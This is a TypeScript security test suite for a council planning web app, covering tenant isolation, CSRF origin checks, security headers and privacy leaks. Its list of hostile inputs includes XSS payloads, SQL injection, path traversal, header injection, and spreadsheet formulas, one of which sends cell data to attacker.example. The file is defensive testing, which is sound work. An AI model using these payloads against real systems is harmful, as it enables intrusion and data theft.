/**
 * What somebody who means harm would try: at every declared page of the house as somebody of another body, at every form
 * from another site, at the boxes with words that are code somewhere, and at the listening program with what no browser sends.
 */
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { parse as parseCsv } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { SaxesParser } from 'saxes'
import { rooms } from '#rooms.ts'
import { roles } from '#duty/roles.ts'
import { house, type House, type Visitor } from './house.ts'
import { prepareSamples, type Sample } from './sample-addresses.ts'
import { attr, type Screen } from './screen.ts'
import { letOut } from './publishing.ts'

const pages = rooms.flatMap((room) => room.pages)
const identityProvider = { OIDC_ISSUER: 'http://localhost:9', OIDC_CLIENT_ID: 'due-regard', OIDC_CLIENT_SECRET: 'not a secret' }
const neighbour = 'imogen.clay@northbarset.example'
/** The second half is never typed by anybody who looks for the first. */
const [sought, canary] = ['quokkafern', 'quokkafern-burrow']
const isForm = ({ page }: Sample): boolean => page.kind === 'form' || page.kind === 'open form'

test('nobody of another body sees or changes anything of the county, by whatever address of it', async (t) => {
  await using council = await house({ settings: identityProvider })
  const samples = await prepareSamples(council, pages)
  const [county, district] = [await council.organisation(), await council.organisation('northbarset')]
  const words = await plantCanary(council, county)
  await giveAllRoles(council, district, neighbour)
  const countysOwn = new Map<string | null, Visitor>([[null, council.visitor()]])
  for (const { by } of samples) if (!countysOwn.has(by)) countysOwn.set(by, await council.as(by!))

  // The county's own people first: what they see shows that a leak would be seen.
  const seenAtHome: string[] = []
  const forms = new Map<Sample, Readonly<Record<string, string>>>()
  for (const sample of samples) {
    const screen = await carrying(countysOwn.get(sample.by)!, sample, (visitor) => visitor.get(sample.url))
    if (tells(screen, words) !== null) seenAtHome.push(sample.page.path.pattern)
    if (isForm(sample)) forms.set(sample, answersOn(screen))
  }
  await t.test('the county’s own people see the planted words in many places, so a leak would be noticed', () => {
    assert.ok(seenAtHome.length >= 40, `the words were seen only at ${seenAtHome.join(', ')}`)
    for (const ending of ['.csv', '.ods', '.docx', '.json', '.xml']) assert.ok(seenAtHome.some((each) => each.endsWith(ending)), `they were not seen in any file that ends in ${ending}`)
  })

  const before = await everythingOf(council, county)
  const imogen = await council.as(neighbour)
  const differences: string[] = []
  const leaks: string[] = []
  const look = async (where: string, ask: (visitor: Visitor, url: string) => Promise<Screen>, sample: Sample, whom: () => Promise<Visitor>): Promise<void> => {
    const [there, nowhere] = [await carrying(await whom(), sample, (visitor) => ask(visitor, sample.url)), await ask(await whom(), elsewhere(sample.url))]
    const leak = tells(there, words)
    if (leak !== null) leaks.push(`${where} tells “${leak}”`)
    if (elsewhere(sample.url) !== sample.url && essence(there) !== essence(nowhere)) differences.push(`${where}: ${essence(there)} and for what is nowhere: ${essence(nowhere)}`)
    if (there.status >= 500) differences.push(`${where} answers ${there.status}`)
  }
  for (const sample of samples) {
    await look(`GET ${sample.url}`, (visitor, url) => visitor.get(url), sample, async () => imogen)
    const joint = sample.url.includes('?') ? '&' : '?'
    if (sample.page.kind !== 'public') await look(`GET ${sample.url}${joint}words=${sought}`, (visitor, url) => visitor.get(`${url}${joint}words=${sought}`), sample, async () => imogen)
  }
  // Some forms end sessions, so each is sent in one of its own.
  for (const sample of samples.filter(isForm)) await look(`POST ${sample.url}`, (visitor, url) => visitor.post(url, forms.get(sample) ?? {}), sample, () => council.as(neighbour))

  await t.test('what is the county’s answers like what is nowhere', () => assert.deepEqual(differences, []))
  await t.test('no word of the county is told', () => assert.deepEqual(leaks, []))
  await t.test('nothing of the county is changed, and its ledger ends where it ended', async () => assert.deepEqual(await everythingOf(council, county), before))

  await t.test('a session of the county is nobody’s at the other body’s address', async () => {
    const open: string[] = []
    for (const sample of samples.filter((each) => ['page', 'download', 'form'].includes(each.page.kind))) {
      const stranger = council.visitor('northbarset.localhost')
      for (const [name, value] of countysOwn.get(sample.by)!.cookies) (stranger.cookies as Map<string, string>).set(name, value)
      const screen = await stranger.get(sample.url)
      if (!/^\/sign-in($|\?next=)/.test(screen.goesTo ?? '') || tells(screen, words) !== null) open.push(`${sample.url} answers ${screen.status}`)
    }
    assert.deepEqual(open, [])
  })
})

test('a form that comes from another site, or from nobody knows where, is refused and does nothing', async () => {
  await using council = await house({ settings: identityProvider })
  const samples = (await prepareSamples(council, pages)).filter(isForm)
  const people = new Map<string | null, Visitor>([[null, council.visitor()]])
  for (const { by } of samples) if (!people.has(by)) people.set(by, await council.as(by!))
  const county = await council.organisation()
  const forms = new Map<Sample, Readonly<Record<string, string>>>()
  for (const sample of samples) forms.set(sample, answersOn(await carrying(people.get(sample.by)!, sample, (visitor) => visitor.get(sample.url))))
  const before = await everythingOf(council, county)
  const accepted: string[] = []
  const origins: readonly Readonly<Record<string, string>>[] = [
    {}, { 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }, { 'sec-fetch-site': 'none' }, { origin: 'https://attacker.example' }, { origin: 'null' },
    { origin: 'http://northbarset.localhost' }, { origin: 'http://barsetshire.localhost.attacker.example' }, { 'sec-fetch-site': 'cross-site', origin: 'http://barsetshire.localhost' },
  ]
  for (const sample of samples) {
    for (const origin of origins) {
      const answer = await carrying(people.get(sample.by)!, sample, (visitor) => foreign(council, visitor, sample.url, forms.get(sample)!, origin))
      if (answer !== 403) accepted.push(`${sample.url} with ${JSON.stringify(origin)} answers ${answer}`)
    }
  }
  assert.ok(samples.length > 50, `only ${samples.length} forms were tried`)
  assert.deepEqual(accepted, [])
  assert.deepEqual(await everythingOf(council, county), before)
  // The same answers from our own page are taken: it was where they came from that was refused.
  const [edit] = samples.filter((each) => each.page.path.pattern === '/plans/:strategy/edit')
  const answer = await foreign(council, people.get(edit!.by)!, edit!.url, forms.get(edit!)!, { origin: 'http://barsetshire.localhost' })
  assert.equal(answer, 303)
  assert.notDeepEqual(await everythingOf(council, county), before)
})

test('every kind of answer carries the headers that keep a browser from being turned against its owner', async () => {
  await using council = await house()
  const samples = await prepareSamples(council, pages)
  const url = (pattern: string): string => samples.find((each) => each.page.path.pattern === pattern)!.url
  const [priya, visitor] = [await council.as('priya.nair@barsetshire.example'), council.visitor()]
  const employee = await council.as('george.tansley@barsetshire.example')
  const home = await visitor.get('/')
  const sheet = /href="([^"]+\.css)"/.exec(home.html)?.[1]
  assert.ok(sheet, 'the first page names no style sheet')
  const answers: readonly (readonly [what: string, status: number, answer: Screen, isSignedIn: boolean])[] = [
    ['a page', 200, await priya.get('/plans'), true], ['a public page', 200, home, false], ['the same, from memory', 200, await visitor.get('/'), false], ['a style sheet', 200, await visitor.get(sheet), false],
    ['what is nowhere', 404, await priya.get('/nowhere'), true], ['an asset that is nowhere', 404, await visitor.get('/assets/nowhere.js'), false], ['what one may not open', 403, await employee.get(url('/actions/:action/edit')), true],
    ['a form with errors', 422, await priya.post(url('/plans/new'), {}), true], ['a form of another site', 403, await priya.post('/plans/new', {}, { 'sec-fetch-site': 'cross-site' }), true],
    ['a file', 200, await priya.get(url('/plans/:strategy.csv')), true], ['kept evidence', 200, await priya.get(url('/actions/:action/evidence/:evidence')), true],
    ['public data', 200, await visitor.get(url('/plan/:strategy/actions.csv')), false], ['the feed', 200, await visitor.get('/plan/feed.xml'), false],
    ['the way to sign in', 303, await visitor.get('/plans'), true], ['after a change', 303, await priya.post('/plans/new', { title: 'A plan' }), true],
    ['health', 200, await visitor.get('/health'), true], ['what cannot be read', 415, await priya.post('/plans/new', {}, { 'content-type': 'application/x-unheard-of' }), true],
  ]
  for (const [what, status, { headers, ...answer }, isSignedIn] of answers) {
    const said = (name: string): string => String(headers[name] ?? '')
    assert.equal(answer.status, status, `${what}: ${answer.title} ${answer.text}`)
    const policy = said('content-security-policy')
    assert.match(policy, /default-src 'none'/, what)
    assert.match(policy, /frame-ancestors 'none'/, what)
    assert.match(policy, /base-uri 'none'/, what)
    assert.match(policy, /script-src 'self'(;|$)/, what)
    assert.doesNotMatch(policy, /unsafe|\*|data:|https:/, what)
    assert.equal(said('x-content-type-options'), 'nosniff', what)
    assert.equal(said('x-frame-options'), 'DENY', what)
    assert.equal(said('referrer-policy'), 'same-origin', what)
    assert.equal(said('cross-origin-resource-policy'), 'same-origin', what)
    assert.equal(said('x-powered-by') + said('server'), '', what)
    if (isSignedIn) assert.match(said('cache-control'), /no-store/, what)
    for (const cookie of [headers['set-cookie'] ?? []].flat()) assert.match(String(cookie), /HttpOnly; SameSite=Lax/i, what)
  }
})

/** Writes the canary into every text of the county that its people see, as its owner in the database. Gives it, and what else is the county’s alone. */
async function plantCanary(council: House, county: string): Promise<readonly string[]> {
  for (const change of [
    `action_plan.action set words = words || ' ${canary}', private_notes = '${canary}', group_heading = '${canary}'`, `action_plan.objective set words = words || ' ${canary}'`, `action_plan.strategy set title = title || ' ${canary}'`,
    `action_plan.evidence set what = what || ' ${canary}'`, `action_plan.import set file_name = '${canary} ' || file_name`, `people.person set job_title = '${canary}'`, `people.department set name = name || ' ${canary}'`, `people.known set name = name || ' ${canary}'`,
  ]) await council.database.asOwner(`update ${change} where organisation_id = $1`, [county])
  const rows = await council.database.asOwner<{ words: string }>(`select replace(words, ' ${canary}', '') as words from action_plan.action where organisation_id = $1 union select email from people.person where organisation_id = $1`, [county])
  const words = rows.map((each) => each.words).filter((each) => each.length > 15)
  assert.ok(words.length > 20, 'the example county has hardly any words')
  return [canary, ...words]
}

async function giveAllRoles(council: House, organisation: string, email: string): Promise<void> {
  for (const role of roles) await council.database.asOwner(`insert into people.granted_role (organisation_id, id, person_id, role, department_id, granted_by, granted_at) select organisation_id, $3, id, $4, null, null, $5 from people.person p where organisation_id = $1 and email = $2 and not exists (select from people.granted_role g where g.organisation_id = $1 and g.person_id = p.id and g.role = $4 and g.department_id is null)`,
    [organisation, email, crypto.randomUUID(), role, council.now().toString()])
}

/** A digest of every row that the organisation has, by table. Looked at as the owner, past every policy. */
async function everythingOf(council: House, organisation: string): Promise<Readonly<Record<string, string>>> {
  const tables = await council.database.asOwner<{ name: string }>(`select format('%I.%I', table_schema, table_name) as name from information_schema.columns join information_schema.tables using (table_schema, table_name) where column_name = 'organisation_id' and table_type = 'BASE TABLE' and table_schema not in ('pg_catalog', 'information_schema') order by 1`)
  assert.ok(tables.length > 20, `only ${tables.length} tables were found`)
  const found: Record<string, string> = {}
  for (const { name } of tables) {
    const [row] = await council.database.asOwner<{ digest: string }>(`select count(*) || ' ' || coalesce(md5(string_agg(t::text, chr(10) order by t::text)), '') as digest from ${name} t where organisation_id = $1`, [organisation])
    found[name] = row!.digest
  }
  return found
}

async function carrying<Answer>(visitor: Visitor, sample: Sample, ask: (visitor: Visitor) => Promise<Answer>): Promise<Answer> {
  for (const [name, value] of Object.entries(sample.cookies)) (visitor.cookies as Map<string, string>).set(name, value)
  const answer = await ask(visitor)
  for (const name of Object.keys(sample.cookies)) (visitor.cookies as Map<string, string>).delete(name)
  return answer
}

/** The words in an answer, whatever they are packed in: a page, a header, a document. Null when none of these is there. */
function tells(screen: Screen, words: readonly string[]): string | null {
  const isPacked = screen.bytes[0] === 0x50 && screen.bytes[1] === 0x4b
  const inside = isPacked ? Object.values(unzipSync(new Uint8Array(screen.bytes))).map((each) => Buffer.from(each).toString()).join('\n') : screen.html
  const told = `${inside}\n${JSON.stringify(screen.headers)}`
  return words.find((each) => told.includes(each)) ?? null
}

/** The same address with ids that nothing has. */
const elsewhere = (url: string): string => url.replaceAll(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, () => crypto.randomUUID()).replace(/(?<=\/answer\/)[\w-]+/, (token) => 'x'.repeat(token.length)).replace(/(?<=\?key=)[\w-]+/, 'a-link-to-nowhere')

/** An answer without what is another each time: the ids in it, and its reference. */
function essence(screen: Screen): string {
  const plain = (text: string): string => text.replaceAll(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, 'an-id').replaceAll(/\b[0-9a-f]{12}\b/g, 'a-reference').replaceAll(/(?<=answer(\/|%2F))[\w-]{20,}/g, 'a-token')
  return screen.goesTo === null ? `${screen.status} ${plain(screen.title)} ${plain(screen.text)}` : `${screen.status} ${plain(screen.goesTo)}`
}

/** What the page’s form would send as it stands, with words in the boxes that are empty. */
function answersOn(screen: Screen): Readonly<Record<string, string>> {
  const form = /<form method="post" action="[^"]*" novalidate[\s\S]*?<\/form>/.exec(screen.html)?.[0]
  if (form === undefined) return {}
  const button = screen.buttons.find((each) => { try { return screen.fill(each, {}).fields.length > 0 && form.includes(each) } catch { return false } })
  return button === undefined ? {} : Object.fromEntries(screen.fill(button, {}).fields.map(([name, value]) => [name, typeof value === 'string' && value !== '' ? value : 'Words']))
}

/** What a page of another site would have the browser send. Gives the answer’s status. */
async function foreign(council: House, { host, cookies }: Visitor, url: string, answers: Readonly<Record<string, string>>, origin: Readonly<Record<string, string>>): Promise<number> {
  const { statusCode } = await council.standing.app.inject({
    method: 'POST', url, payload: new URLSearchParams(answers).toString(),
    headers: { host, 'content-type': 'application/x-www-form-urlencoded', cookie: [...cookies].map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('; '), ...origin },
  })
  return statusCode
}

test('an address that somebody made up is answered, whatever stands in it', async () => {
  await using council = await house({ settings: identityProvider })
  const samples = await prepareSamples(council, pages)
  const people = new Map<string | null, Visitor>([[null, council.visitor()]])
  for (const { by } of samples) if (!people.has(by)) people.set(by, await council.as(by!))
  const parts = ['%00', '..%2f..%2f..%2fetc%2fpasswd', '__proto__', 'constructor', "'%20or%20''='", '%ED%A0%80', '%zz', 'x'.repeat(300), '-1', '-'.repeat(36), '99999999999999999999', '%E2%80%AE', '%0d%0aset-cookie:evil=1']
  const searches = ['words=%00', 'words=%ED%A0%80', 'words=%25_%5C', 'words=%27%22%3E%3Cscript%3E', 'page=-1', 'page=1e99', 'page=99999999999999999999', 'sort=__proto__', 'sort=-constructor', 'words=a&words=b', '__proto__=x&constructor=y', 'key=%00', 'next=//attacker.example', 'from=%00&to=%00', `words=${'x'.repeat(5000)}`]
  const wrong: string[] = []
  // The other two kinds of file are made from the same rows as the CSV.
  for (const { page, url, by } of samples.filter((each) => !/\.(ods|docx)$/.test(each.page.path.pattern))) {
    const [path] = url.split('?')
    const steps = path!.split('/')
    const asked = page.path.pattern.split('/').flatMap((step, at) => step.startsWith(':') ? parts.map((part) => steps.with(at, part).join('/')) : [])
    // Every answer that a list or a page reads from its address is among the filters that it offers.
    const filters = searches.concat(['department', 'rating', 'state', 'did', 'lead', 'by', 'about'].map((name) => `${name}=%00`), ['objective', 'theme', 'department', 'about', 'by'].map((name) => `${name}=0123abcd${'-'.repeat(28)}`))
    const answers = await Promise.all([...asked, ...filters.map((search) => `${path!}?${search}`)].map(async (address) => [address, await people.get(by)!.get(address)] as const))
    for (const [address, { status, headers, html, goesTo }] of answers) {
      if (status >= 500) wrong.push(`${address} answers ${status}`)
      if (JSON.stringify(headers['set-cookie'] ?? '').includes('evil') || /^(https?:)?\/\/attacker/.test(goesTo ?? '')) wrong.push(`${address} is carried into a header`)
      if (/root:x:0:0/.test(html)) wrong.push(`${address} reads a file of the machine`)
    }
  }
  assert.deepEqual(wrong, [])
})

/** Words that are code somewhere: to a browser, a database, a spreadsheet, a template, a header, a terminal. */
const nasty: readonly string[] = [
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '<svg/onload=alert(1)>', '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>', '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">here</a>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e', '<!--<script>--><b onmouseover=alert(1)>b</b>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#x3C;script&#x3E;', '<base href="https://attacker.example/">', '<meta http-equiv="refresh" content="0;url=https://attacker.example">', '<form action="https://attacker.example"><button>Sign in</button>', ']]><script>alert(1)</script>',
  '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '{% for x in y %}', '$& $1 $` $\'', '%s %n %d %x', '__proto__', 'constructor', 'null', 'undefined', '[object Object]', 'NaN',
  "'; drop table action_plan.action; --", "' or ''='", '\\', '%', '_', 'E\'\\\\\'', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://attacker.example/?"&A1,"here")', '+1+1', '-2+3', '@SUM(A1:A9)', '  =1+1', '＝1+1',
  'Words\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>', 'A bell \u0007 and \u001b[31mred\u001b[0m', 'A NUL \u0000 inside', '\ud800 half a pair', '\u202eback to front\u202c', '\u200b\u200d\ufeff nothing to see', '👩🏽‍🦽‍➡️👨‍👩‍👧‍👦', 'Z̷̡͎a̴l̶g̵ǫ', '﷽𒐫', 'ﬁ ſ K İ ß',
].map((each, number) => `${each} (${number})`)

/** As the house keeps it: trimmed, lines ended in one way, and a mark for what is no character. */
const kept = (words: string): string => words.toWellFormed().replaceAll('\u0000', '\ufffd').replaceAll('\r\n', '\n').trim()
const onOneLine = (words: string): string => words.replaceAll(/\s+/g, ' ').trim()

test('words that are code somewhere are kept and shown as the words that they are', async (t) => {
  await using council = await house()
  const priya = await council.as('priya.nair@barsetshire.example')
  const ruth = await council.as('ruth.pemberton@barsetshire.example')
  const saved = async (url: string, answers: Readonly<Record<string, string>>): Promise<string> => {
    const answer = await priya.post(url, answers)
    assert.equal(answer.status, 303, `${url} with ${JSON.stringify(answers)} answers ${answer.status}: ${answer.errors.map((each) => each.text).join(' ')}`)
    assert.ok(!JSON.stringify(answer.headers).includes('evil'), `${url} carries what was typed into a header`)
    return answer.goesTo!
  }
  const plan = (await saved('/plans/new', { title: 'A plan of nasty words', from: '2026', to: '2028' })).replace(/[?#].*/, '')
  const strategy = plan.slice('/plans/'.length)
  assert.match(strategy, /^[0-9a-f-]{36}$/)
  const wrong: string[] = []
  const look = async (visitor: Visitor, url: string, words: string | null): Promise<Screen> => {
    const screen = await visitor.get(url)
    if (screen.status !== 200) wrong.push(`${url} answers ${screen.status}`)
    wrong.push(...foreignParts(screen.html).map((each) => `${url} has ${each}`))
    if (words !== null && !screen.text.includes(onOneLine(kept(words)))) wrong.push(`${url} does not say ${JSON.stringify(kept(words))}`)
    return screen
  }
  const [first] = await council.database.asOwner<{ id: string }>('select id from people.person where organisation_id = $1 and email = $2', [await council.organisation(), 'priya.nair@barsetshire.example'])

  for (const words of nasty) {
    await saved(`${plan}/objectives/new`, { code: words.slice(0, 30), words, thisMeans: words, measure: words, baseline: words, target: words, deadline: words, leadMember: words.slice(0, 200), strategicLead: words.slice(0, 200), operationalLead: words.slice(0, 200) })
    const [row] = await council.database.asOwner<{ id: string; words: string }>('select objective_id as id, words from action_plan.objective where strategy_id = $1 order by place desc limit 1', [strategy])
    assert.equal(row?.words, kept(words))
    const action = (await saved(`/objectives/${row.id}/actions/new`, { words, reference: words.slice(0, 60), group: words, deadline: words, supporting: words, electedLead: words.slice(0, 200), output: words, outcome: words, process: words, resources: words, privateNotes: words, priority: '', department: '' })).replace(/\/hand-over.*/, '')
    await saved(`${action}/hand-over`, { to: first!.id, because: words })
    await saved(`${action}/progress`, { account: words, next: words, own: 'at risk', reason: words })
    await saved(`${action}/evidence`, { what: words, link: `https://www.example.org/?q=${encodeURIComponent(words.toWellFormed())}` })
    await saved(`${action}/move-date`, { 'to-day': '1', 'to-month': '3', 'to-year': '2027', because: words })
    await look(priya, action, words)
    await look(priya, `/objectives/${row.id}`, words)
    const edit = await look(priya, `${action}/edit`, null)
    assert.equal(onOneLine(edit.field('What will be done?')), onOneLine(kept(words)))
    // Refused, the words stand in the box again.
    const refused = await priya.post('/plans/new', { title: words, from: words, vision: words })
    assert.equal(refused.status, 422)
    assert.equal(onOneLine(refused.field('What is the plan called?')), onOneLine(kept(words)))
    wrong.push(...foreignParts(refused.html).map((each) => `/plans/new with errors has ${each}`))
    await saved('/plans/new', { title: words, vision: words, aims: words })
    await look(priya, `${plan}?words=${encodeURIComponent(words.toWellFormed())}`, null)
  }
  await t.test('on the pages where they were typed', () => assert.deepEqual(wrong.splice(0), []))

  await t.test('on the lists, in the ledger, and where a document is read', async () => {
    const rows = nasty.map((words) => Array.from({ length: 3 }, () => kept(words).replaceAll(/[\n\t]/g, ' ')).join('\t'))
    const read = await saved('/imports/paste', { words: ['Action\tLead\tTimescale', ...rows].join('\n'), name: nasty[0]!, again: 'yes' })
    await council.work()
    for (const { href } of (await look(priya, read, null)).links.filter((each) => /\/(tables|rows)\//.test(each.href))) {
      const table = await look(priya, href, null)
      for (const row of table.links.filter((each) => /\/rows\//.test(each.href))) await look(priya, row.href, null)
    }
    for (const url of ['/home', '/plans', plan, '/imports', '/people']) await look(priya, url, null)
    const ledger = await look(ruth, '/ledger', null)
    for (const { href } of ledger.links.filter((each) => /^\/ledger\/\d+$/.test(each.href))) await look(ruth, href, null)
    assert.deepEqual(wrong.splice(0), [])
  })

  await t.test('in the public plan, its feed and its data', async () => {
    await letOut(council, await saved(`${plan}/publish`, { note: nasty[0]! }))
    const anyone = council.visitor()
    const page = await look(anyone, `/plan/${strategy}`, null)
    const actions = page.links.filter((each) => each.href.startsWith('/plan/action/'))
    assert.ok(actions.length >= nasty.length, `the public plan leads to ${actions.length} actions`)
    for (const { href } of actions) await look(anyone, href, null)
    for (const words of nasty) assert.ok(page.text.includes(onOneLine(kept(words))), `the public plan does not say ${JSON.stringify(kept(words))}`)
    const data = Buffer.from((await anyone.get(`/plan/${strategy}/actions.json`)).bytes).toString()
    for (const words of nasty) assert.ok(JSON.stringify(JSON.parse(data)).includes(JSON.stringify(kept(words))), `the data does not say ${JSON.stringify(kept(words))}`)
    assert.deepEqual(troublesOfXml((await anyone.get('/plan/feed.xml')).html), [])
    assert.deepEqual(wrong.splice(0), [])
  })

  await t.test('in the tables that a spreadsheet opens, where none is worked out', async () => {
    for (const [visitor, url] of [[priya, `${plan}.csv`], [council.visitor(), `/plan/${strategy}/actions.csv`], [ruth, '/ledger.csv']] as const) {
      const rows = parseCsv(Buffer.from((await visitor.get(url)).bytes), { bom: true, relax_column_count: false }) as string[][]
      assert.ok(rows.length > nasty.length, `${url} has ${rows.length} rows`)
      assert.deepEqual(rows.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)), [], url)
      if (!url.includes(strategy)) continue
      // A list puts the reference before the words of an action, in one cell.
      const cells = rows.flat().map((cell) => cell.replaceAll('\r\n', '\n'))
      assert.deepEqual(nasty.map(kept).filter((words) => !cells.some((cell) => cell.endsWith(words))), [], url)
    }
  })

  await t.test('and too many of them are refused', async () => {
    for (const [url, name] of [['/plans/new', 'title'], [`${plan}/objectives/new`, 'words'], [`${plan}/edit`, 'title']] as const) {
      const answer = await priya.post(url, { [name]: '<script>'.repeat(12_500) })
      assert.equal(answer.status, 422, url)
      assert.match(answer.errors[0]?.text ?? '', /characters or fewer/)
      assert.deepEqual(foreignParts(answer.html), [])
    }
    assert.equal((await priya.post('/plans/new', { title: 'x'.repeat(20_000_000) })).status, 413)
    const link = await priya.post((await priya.get(plan)).links.find((each) => each.href.startsWith('/actions/'))!.href + '/evidence', { what: 'Minutes', link: 'javascript:alert(1)//https://' })
    assert.equal(link.status, 422)
  })
})

/** What a page of ours has not: a script of somebody’s own, a frame, an event in an attribute, an address that is code, a form that goes elsewhere. */
function foreignParts(page: string): readonly string[] {
  const all = (node: Tree.Node): readonly Tree.Element[] => 'childNodes' in node ? node.childNodes.flatMap((child) => 'tagName' in child ? [child, ...all(child)] : []) : []
  return all(parse(page)).flatMap((element) => {
    const found: string[] = []
    const said = (name: string): string => attr(element, name) ?? ''
    if (element.tagName === 'script' && !said('src').startsWith('/')) found.push('a script without an address of ours')
    if (/^(iframe|object|embed|base|math|mtext|noscript)$/.test(element.tagName) || said('http-equiv').toLowerCase() === 'refresh') found.push(`<${element.tagName}>`)
    for (const { name, value } of element.attrs) {
      if (name.startsWith('on')) found.push(`the attribute ${name}="${value}"`)
      if (/^(href|src|action|formaction)$/.test(name) && /^\s*(javascript|data|vbscript):|attacker\.example\/?$/i.test(value)) found.push(`the address ${value}`)
    }
    return found
  })
}

function troublesOfXml(document: string): readonly string[] {
  const found: string[] = []
  const parser = new SaxesParser()
  parser.on('error', (error) => { found.push(error.message) })
  parser.write(document).close()
  return found
}

test('the check for foreign parts notices them', () => {
  for (const planted of ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href=" javascript:alert(1)">here</a>', '<iframe></iframe>', '<base href="https://attacker.example/">', '<form action="https://attacker.example">']) assert.equal(foreignParts(`<main>${planted}</main>`).length, planted.startsWith('<base') ? 2 : 1, planted)
  assert.deepEqual(foreignParts('<main><script src="/assets/a.js"></script><a href="/plans">&lt;script&gt;</a></main>'), [])
})

test('what is private or secret is told to nobody else: no log, no mail, no address, no public page, no page of an error', async (t) => {
  await using council = await house({ settings: identityProvider })
  const samples = await prepareSamples(council, pages)
  const [priya, visitor] = [await council.as('priya.nair@barsetshire.example'), council.visitor()]
  const action = samples.find((each) => each.page.path.pattern === '/actions/:action')!.url
  const plan = samples.find((each) => each.page.path.pattern === '/plans/:strategy')!.url
  const tell = (what: string): string => `quokkafern-${what}-${crypto.randomUUID()}`
  const written = { notes: tell('notes'), progress: tell('progress'), evidence: tell('evidence'), action: tell('action') }
  const passwords = { wrong: tell('wrong'), right: tell('right') }

  // Everything private that a form of the house takes.
  const edit = await priya.get(`${action}/edit`)
  assert.equal((await priya.press(edit, 'Save', { 'Private notes (optional)': written.notes })).status, 303)
  assert.equal((await priya.post(`${action}/progress`, { account: written.progress, own: 'on track', isPrivate: 'yes' })).status, 303)
  assert.equal((await priya.post(`${action}/evidence`, { what: written.evidence, link: `https://www.example.org/${written.evidence}`, isPrivate: 'yes' })).status, 303)
  const objective = samples.find((each) => each.page.path.pattern === '/objectives/:objective')!.url
  assert.equal((await priya.post(`${objective}/actions/new`, { words: written.action, priority: '', department: '', isPrivate: 'yes' })).status, 303)
  await letOut(council, await priya.press(await priya.get(`${plan}/publish`), 'Hand in for approval', { 'A note for readers: what changed, or why': 'It is up to date.' }))
  const seen = `${(await priya.get(action)).html}${(await priya.get(`${action}/edit`)).html}${(await priya.get(objective)).html}`
  for (const words of Object.values(written)) assert.ok(seen.includes(words), `those who work on the plan do not see ${words}, so nothing is shown by others not seeing it`)

  // A password that is wrong, a link to choose one, and a password that is right.
  assert.equal((await visitor.post('/sign-in/forgotten', { email: 'priya.nair@barsetshire.example' })).status, 303)
  await council.work()
  const reset = (await council.letters()).flatMap((each) => each.links).find((each) => each.includes('choose-password'))
  assert.ok(reset, 'no letter has a link to choose a password')
  const redirects: (string | null)[] = []
  for (const [url, answers] of [['/sign-in', { email: 'priya.nair@barsetshire.example', password: passwords.wrong }], [reset, { password: passwords.right }], ['/sign-in', { email: 'priya.nair@barsetshire.example', password: passwords.right }]] as const) {
    const answer = await council.visitor().post(url, answers)
    assert.equal(answer.status, answers.password === passwords.wrong ? 422 : 303, answer.text)
    assert.ok(!answer.html.includes('quokkafern'), `${url} gives the password back`)
    redirects.push(answer.goesTo)
  }
  const tokens = [...(await council.letters()).flatMap((each) => each.links).flatMap((each) => /(?:\/answer\/|key=)([\w-]+)/.exec(each)?.[1] ?? []), ...priya.cookies.values()].filter((each) => each.length > 20)
  assert.ok(tokens.length >= 3, 'the letters and the session have hardly any token')
  const secrets = [...Object.values(passwords), ...tokens]
  const all = [...Object.values(written), ...secrets]

  // A walk over everything; and the service failing with the words in its hands.
  const told: string[] = []
  const employee = await council.as('george.tansley@barsetshire.example')
  const look = (where: string, screen: Screen, hidden: readonly string[]): void => {
    const own = tokens.find((each) => screen.address.includes(each))
    const leak = tells(screen, hidden.filter((each) => each !== own))
    if (leak !== null) told.push(`${where} tells ${leak}`)
    if (screen.goesTo !== null && hidden.some((each) => each !== own && screen.goesTo!.includes(each))) told.push(`${where} leads to ${screen.goesTo}`)
  }
  const owners = new Map<string | null, Visitor>([[null, council.visitor()]])
  for (const { by } of samples) if (!owners.has(by)) owners.set(by, await council.as(by!))
  for (const sample of samples) {
    look(`to anyone, ${sample.url}`, await council.visitor().get(sample.url), all)
    look(`to its own people, ${sample.url}`, await carrying(owners.get(sample.by)!, sample, (who) => who.get(sample.url)), secrets)
    if (isForm(sample)) look(`to an employee, what refuses ${sample.url}`, await employee.get(sample.url), sample.page.path.pattern.startsWith('/actions/') ? secrets : all)
  }
  // What is refused is logged, and its address can be a link from a letter.
  const asked = samples.find((each) => each.page.path.pattern === '/answer/:token')!.url
  for (const url of [asked, reset, `${asked}/nowhere`]) assert.equal(await foreign(council, council.visitor(), url, {}, { 'sec-fetch-site': 'cross-site' }), 403)
  await council.database.asOwner(`alter table action_plan.action add constraint never check (private_notes not like 'quokkafern-later%') not valid`)
  await council.database.asOwner(`alter table action_plan.happening add constraint never check (told::text not like '%quokkafern-later%') not valid`)
  const later = tell('later')
  // Choosing a password ended the sessions from before it.
  const again = await council.as('priya.nair@barsetshire.example')
  const failing = [await again.press(await again.get(`${action}/edit`), 'Save', { 'Private notes (optional)': later }), await again.post(`${action}/progress`, { account: later, own: 'on track', isPrivate: 'yes' })]
  assert.deepEqual(failing.map((each) => each.status), [500, 500])
  await new Promise((done) => setTimeout(done, 50))

